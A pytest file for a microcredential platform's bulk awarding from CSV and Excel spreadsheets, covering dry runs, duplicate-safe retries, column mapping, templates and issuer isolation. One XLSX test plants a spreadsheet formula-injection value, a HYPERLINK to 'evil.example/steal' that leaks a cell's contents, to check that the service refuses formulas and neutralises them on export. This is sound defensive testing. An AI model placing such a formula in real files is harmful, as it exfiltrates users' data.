"""Bulk awarding from spreadsheets (the console's steps, at the service level), on SQLite and
PostgreSQL: the dry run says per row what the job then does, retries award nothing twice, and
results and templates open in Excel as data, never formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import func, select

from microcred.auth.principal import Principal
from microcred.awards.service import Signing
from microcred.bulk import service as bulk
from microcred.bulk.mapping import guess
from microcred.bulk.reading import read_sheet
from microcred.db.models import BulkUpload, Credential
from microcred.jobs.worker import JobRunner
from microcred.problems import NotFound
from microcred.runtime import Runtime

from ..bulk.files import csv_bytes, xlsx_bytes
from ..factories.service import ServiceClient

pytestmark = pytest.mark.asyncio
NOW = datetime(2026, 12, 3, 12, 0, tzinfo=UTC)


def _awarder(issuer_id: str) -> Principal:
    return Principal(client_id="staff:test-awarder", issuer_id=issuer_id, scopes=frozenset({"award"}))


async def _credentials(runtime: Runtime) -> int:
    async with runtime.sessions() as session:
        return int(await session.scalar(select(func.count()).select_from(Credential)) or 0)


async def _run_jobs(runtime: Runtime) -> None:
    signing = Signing(runtime.keystore, runtime.loader, runtime.settings.base_url, runtime.statuses)
    runner = JobRunner(runtime.sessions, signing, chunk_rows=4)
    while await runner.run_once() is not None:
        pass


async def _upload(runtime: Runtime, issuer_id: str, body: bytes, filename: str) -> str:
    async with runtime.sessions() as session, session.begin():
        upload = await bulk.start_upload(
            session, principal=_awarder(issuer_id), issuer_id=issuer_id, filename=filename, body=body, max_rows=1000, now=NOW
        )
        return upload.id


async def _dry_run(runtime: Runtime, issuer_id: str, upload_id: str) -> bulk.DryRun:
    async with runtime.sessions() as session:
        return await bulk.dry_run(session, principal=_awarder(issuer_id), issuer_id=issuer_id, upload_id=upload_id, max_rows=1000, now=NOW)


async def _submit(runtime: Runtime, issuer_id: str, upload_id: str) -> str:
    async with runtime.sessions() as session, session.begin():
        job = await bulk.submit_upload(session, principal=_awarder(issuer_id), issuer_id=issuer_id, upload_id=upload_id, max_rows=1000, now=NOW)
        return job.id


async def _results(runtime: Runtime, issuer_id: str, upload_id: str, fmt: str) -> bulk.FileOut:
    async with runtime.sessions() as session:
        return await bulk.results_file(
            session, principal=_awarder(issuer_id), issuer_id=issuer_id, upload_id=upload_id, base_url=runtime.settings.base_url,
            format=fmt,  # type: ignore[arg-type]
        )


def _dutch_csv(code: str) -> bytes:
    return csv_bytes(
        [
            ["E-mailadres", "Naam", "Cursuscode", "Datum afgerond", "Cijfer"],
            ["zoe@example.org", "Zoë Jansen", code, "28-06-2024", "8,5"],
            ["unal@example.org", "Ünal Öztürk", code.lower(), "1-7-2024", "7"],
            ["geen-email", "Bad Mail", code, "28-06-2024", "6"],
            ["piet@example.org", "Piet", code, "31-02-2024", "6"],
            ["zoe@example.org", "Zoë Jansen", code, "28-06-2024", "8,5"],
            ["anne@example.org", "Anne\nde Vries", code, "2024-06-30", "9"],
        ],
        delimiter=";",
        encoding="cp1252",
    )


async def test_a_dutch_csv_dry_run_names_cells_then_awards_what_it_said(service: ServiceClient) -> None:
    runtime = service.runtime
    issuer = await service.create_issuer()
    achievement = await service.create_achievement(issuer["id"], human_code="CNC-101")
    upload_id = await _upload(runtime, issuer["id"], _dutch_csv("CNC-101"), "cohort.csv")

    plan = await _dry_run(runtime, issuer["id"], upload_id)
    assert plan.missing == []
    assert [(r.number, r.outcome) for r in plan.rows] == [
        (2, "award"), (3, "award"), (4, "error"), (5, "error"), (6, "duplicate"), (7, "award"),
    ]
    assert plan.rows[2].errors[0].startswith("A4: ") and plan.rows[3].errors[0].startswith("D5: not a date")
    assert plan.rows[4].earlier_row == 2
    assert plan.counts == {"award": 3, "duplicate": 1, "error": 2}
    assert await _credentials(runtime) == 0  # a dry run signs nothing

    job_id = await _submit(runtime, issuer["id"], upload_id)
    assert await _submit(runtime, issuer["id"], upload_id) == job_id  # a second click is the same job
    async with runtime.sessions() as session:
        kept = await session.get(BulkUpload, upload_id)
        assert kept is not None and kept.content == b""  # the job's rows hold the data now, not the file too
    await _run_jobs(runtime)
    assert await _credentials(runtime) == 3

    results = await _results(runtime, issuer["id"], upload_id, "csv")
    assert results.filename == "cohort-results.csv"
    rows = list(csv.reader(io.StringIO(results.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Row", "Email", "Name", "Achievement", "Outcome", "Credential URL", "Error"]
    by_row = {r[0]: r for r in rows[1:]}
    assert [by_row[n][4] for n in ("2", "3", "4", "5", "6", "7")] == [
        "awarded", "awarded", "not awarded", "not awarded", "already awarded", "awarded",
    ]
    assert by_row["3"][2] == "Ünal Öztürk" and by_row["3"][3] == "CNC-101"
    assert by_row["2"][5].startswith(f"{runtime.settings.base_url}/credentials/") and by_row["6"][5] == by_row["2"][5]
    assert by_row["4"][6].startswith("A4: ") and by_row["5"][6].startswith("D5: not a date")
    credential = (await service.http.get(by_row["7"][5].replace(runtime.settings.base_url, ""), headers={"Accept": "application/json"}))
    assert credential.status_code == 200 and "Anne\nde Vries" in credential.text.encode().decode("unicode_escape")

    # The same file again, as a retry: the dry run sees every row awarded, the job awards none.
    again = await _upload(runtime, issuer["id"], _dutch_csv(achievement["id"]), "cohort.csv")
    plan = await _dry_run(runtime, issuer["id"], again)
    assert [r.outcome for r in plan.rows] == ["duplicate", "duplicate", "error", "error", "duplicate", "duplicate"]
    assert plan.rows[0].credential_id == by_row["2"][5].rsplit("/", 1)[1]
    await _submit(runtime, issuer["id"], again)
    await _run_jobs(runtime)
    assert await _credentials(runtime) == 3


async def test_an_xlsx_with_serial_dates_and_formulas_awards_and_exports_no_formula(service: ServiceClient) -> None:
    runtime = service.runtime
    issuer = await service.create_issuer()
    achievement = await service.create_achievement(issuer["id"], human_code="CNC-101")
    formula = '=HYPERLINK("https://evil.example/steal?"&A3,"Bo")'
    body = xlsx_bytes(
        [
            ["Email", "Name", "Course", "Completed on", "Grade", "External id"],
            ["ada@example.org", "Ada", "CNC-101", date(2024, 6, 28), 8, "lms-1"],
            ["bo@example.org", formula, achievement["id"], date(2024, 6, 28), 7, "lms-2"],
            ["cy@example.org", "Cy", "CNC-101", date(2024, 7, 1), 7.5, "lms-3"],
        ],
        date_columns=[3],
        serial_dates=True,
    )
    upload_id = await _upload(runtime, issuer["id"], body, "cohort.xlsx")
    plan = await _dry_run(runtime, issuer["id"], upload_id)
    assert [r.outcome for r in plan.rows] == ["award", "error", "award"]
    assert plan.rows[1].errors == [f"B3: a formula, not a value ({formula[:60]}); type the value itself"]
    assert plan.rows[0].payload is not None and plan.rows[0].payload["completion_date"] == "2024-06-28"
    assert plan.rows[2].payload is not None and plan.rows[2].payload["result"] == {"value": "7.5"}
    await _submit(runtime, issuer["id"], upload_id)
    await _run_jobs(runtime)

    results = await _results(runtime, issuer["id"], upload_id, "xlsx")
    with zipfile.ZipFile(io.BytesIO(results.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = read_sheet(results.content, max_rows=10)
    names = [r.cells[2] for r in sheet.rows]
    assert names == ["Ada", "'" + formula, "Cy"]
    assert [r.cells[4] for r in sheet.rows] == ["awarded", "not awarded", "awarded"]


async def test_the_mapping_chosen_is_remembered_for_the_next_file(service: ServiceClient) -> None:
    runtime = service.runtime
    issuer = await service.create_issuer()
    await service.create_achievement(issuer["id"], human_code="CNC-101")
    body = csv_bytes([["Mail", "Wie", "Wat", "Wanneer"], ["a@example.org", "Ada", "CNC-101", "28/06/2024"]])
    upload_id = await _upload(runtime, issuer["id"], body, "a.csv")
    assert (await _dry_run(runtime, issuer["id"], upload_id)).missing == ["Completion date", "Achievement (course code or id)"]
    async with runtime.sessions() as session, session.begin():
        await bulk.choose_mapping(
            session, principal=_awarder(issuer["id"]), issuer_id=issuer["id"], upload_id=upload_id,
            columns={"email": 0, "name": 1, "achievement": 2, "completion_date": 3}, date_order="dmy", default_achievement=None,
            max_rows=1000, now=NOW,
        )
    assert [r.outcome for r in (await _dry_run(runtime, issuer["id"], upload_id)).rows] == ["award"]
    second = await _upload(runtime, issuer["id"], csv_bytes([["Wanneer", "Wat", "Mail"], ["1/7/2024", "CNC-101", "b@example.org"]]), "b.csv")
    plan = await _dry_run(runtime, issuer["id"], second)
    assert plan.upload.mapping == {"completion_date": 0, "achievement": 1, "email": 2}
    assert plan.rows[0].payload is not None and plan.rows[0].payload["completion_date"] == "2024-07-01"

    async with runtime.sessions() as session, session.begin():  # a second choice replaces the first
        await bulk.choose_mapping(
            session, principal=_awarder(issuer["id"]), issuer_id=issuer["id"], upload_id=second,
            columns={"email": 2, "achievement": 1, "completion_date": 0}, date_order="mdy", default_achievement=None, max_rows=1000, now=NOW,
        )
    third = await _upload(runtime, issuer["id"], csv_bytes([["Mail", "Wanneer", "Wat"], ["c@example.org", "1/7/2024", "CNC-101"]]), "c.csv")
    plan = await _dry_run(runtime, issuer["id"], third)
    assert (plan.upload.mapping, plan.upload.date_order) == ({"email": 0, "completion_date": 1, "achievement": 2}, "mdy")
    assert plan.rows[0].payload is not None and plan.rows[0].payload["completion_date"] == "2024-01-07"


async def test_templates_map_themselves_and_other_issuers_see_nothing(service: ServiceClient) -> None:
    runtime = service.runtime
    issuer = await service.create_issuer()
    other = await service.create_issuer()
    achievement = await service.create_achievement(issuer["id"], human_code="CNC-101")
    async with runtime.sessions() as session:
        for fmt in ("csv", "xlsx"):
            template = await bulk.template_file(
                session, principal=_awarder(issuer["id"]), issuer_id=issuer["id"], achievement_id=achievement["id"], format=fmt  # type: ignore[arg-type]
            )
            assert template.filename == f"CNC-101-template.{fmt}"
            if fmt == "csv":
                header = template.content.decode("utf-8-sig").splitlines()[0].split(",")
            else:
                from openpyxl import load_workbook

                workbook = load_workbook(io.BytesIO(template.content), read_only=True)
                header = [str(v) for v in next(workbook.worksheets[0].iter_rows(values_only=True))]
                assert "CNC-101" in str(list(workbook["How to fill in"].iter_rows(values_only=True)))
                workbook.close()
            assert set(guess(header)) == {"email", "name", "achievement", "completion_date", "grade", "external_id"}
        with pytest.raises(NotFound):
            await bulk.template_file(
                session, principal=_awarder(other["id"]), issuer_id=issuer["id"], achievement_id=achievement["id"], format="csv"
            )
    upload_id = await _upload(runtime, issuer["id"], _dutch_csv("CNC-101"), "cohort.csv")
    with pytest.raises(NotFound):
        await _dry_run(runtime, other["id"], upload_id)
    async with runtime.sessions() as session:
        with pytest.raises(NotFound):
            await bulk.dry_run(session, principal=_awarder(issuer["id"]), issuer_id=other["id"], upload_id=upload_id, max_rows=10, now=NOW)


async def test_the_batch_api_reads_excels_dutch_csv_too(service: ServiceClient) -> None:
    """The API's CSV reader is the console's: semicolons and Windows-1252 are read, not refused."""
    issuer = await service.create_issuer()
    achievement = await service.create_achievement(issuer["id"])
    body = csv_bytes(
        [["achievement_id", "recipient_email", "recipient_name", "completion_date"], [achievement["id"], "zoe@example.org", "Zoë Ünal", "2024-06-28"]],
        delimiter=";",
        encoding="cp1252",
    )
    response = await service.http.post(
        f"/api/v1/issuers/{issuer['id']}/awards/batch", content=body, headers={**service.admin, "content-type": "text/csv"}
    )
    assert response.status_code == 202, response.text
    await _run_jobs(service.runtime)
    job = (await service.http.get(f"/api/v1/jobs/{response.json()['id']}", headers=service.admin)).json()
    assert job["awarded"] == 1
    listed = (await service.http.get(f"/api/v1/issuers/{issuer['id']}/credentials", headers=service.admin)).json()
    assert listed["items"][0]["recipient_name"] == "Zoë Ünal"


async def test_files_never_submitted_are_forgotten_after_a_week(service: ServiceClient) -> None:
    runtime = service.runtime
    issuer = await service.create_issuer()
    body = _dutch_csv("CNC-101")
    async with runtime.sessions() as session, session.begin():
        old = await bulk.start_upload(
            session, principal=_awarder(issuer["id"]), issuer_id=issuer["id"], filename="old.csv", body=body, max_rows=100,
            now=NOW - bulk.KEEP_UNSUBMITTED - timedelta(minutes=1),
        )
    fresh = await _upload(runtime, issuer["id"], body, "new.csv")
    async with runtime.sessions() as session:
        assert await session.get(BulkUpload, old.id) is None
        assert await session.get(BulkUpload, fresh) is not None


async def test_what_only_the_achievement_can_refuse_is_found_by_the_dry_run(service: ServiceClient) -> None:
    """The dry run builds each credential as the job will (without signing): a completion date in
    the future, a grade for a course that describes no result, or a retired course, is an error
    naming its cell."""
    runtime = service.runtime
    issuer = await service.create_issuer()
    await service.create_achievement(issuer["id"], human_code="CNC-101")
    await service.create_achievement(issuer["id"], human_code="NO-GRADE", result_descriptions=None)
    old = await service.create_achievement(issuer["id"], human_code="OLD-1")
    retired = await service.http.post(f"/api/v1/issuers/{issuer['id']}/achievements/{old['id']}/retire", headers=service.admin)
    assert retired.status_code == 200, retired.text
    body = csv_bytes(
        [
            ["email", "achievement", "completion_date", "grade"],
            ["a@example.org", "CNC-101", "01-01-2027", "8"],
            ["b@example.org", "NO-GRADE", "01-06-2026", "8"],
            ["c@example.org", "NO-GRADE", "01-06-2026", ""],
            ["d@example.org", "old-1", "01-06-2026", "8"],
        ]
    )
    upload_id = await _upload(runtime, issuer["id"], body, "c.csv")
    plan = await _dry_run(runtime, issuer["id"], upload_id)
    assert [r.outcome for r in plan.rows] == ["error", "error", "award", "error"]
    assert plan.rows[0].errors == ["C2: must not lie in the future"]
    assert plan.rows[1].errors[0].startswith("D3: the achievement describes no result")
    assert plan.rows[3].errors == ["B5: the achievement 'old-1' is retired: it awards no new credentials"]
